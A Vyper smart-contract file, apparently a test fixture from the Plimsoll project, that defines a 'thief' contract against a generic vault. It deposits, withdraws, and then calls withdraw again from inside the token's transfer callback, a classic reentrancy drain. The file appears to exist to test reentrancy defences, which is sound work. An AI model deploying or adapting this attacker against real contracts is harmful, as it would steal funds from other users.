# pragma version ~=0.4.3
# SPDX-License-Identifier: Apache-2.0
"""
@title A thief that withdraws again while its withdrawal is being paid.
@license Apache-2.0
@author The Plimsoll authors
"""

interface House:
    def deposit(amount: uint256): nonpayable
    def withdraw(amount: uint256): nonpayable


HOUSE: immutable(address)
amount: uint256


@deploy
def __init__(house: address):
    HOUSE = house


@external
def begin(amount: uint256):
    """
    @notice Deposit, then withdraw, and withdraw again from within.
    """
    extcall House(HOUSE).deposit(amount)
    self.amount = amount
    extcall House(HOUSE).withdraw(amount)


@external
def on_transfer():
    """
    @notice What the token calls while it moves.
    """
    if self.amount != 0:
        extcall House(HOUSE).withdraw(self.amount)
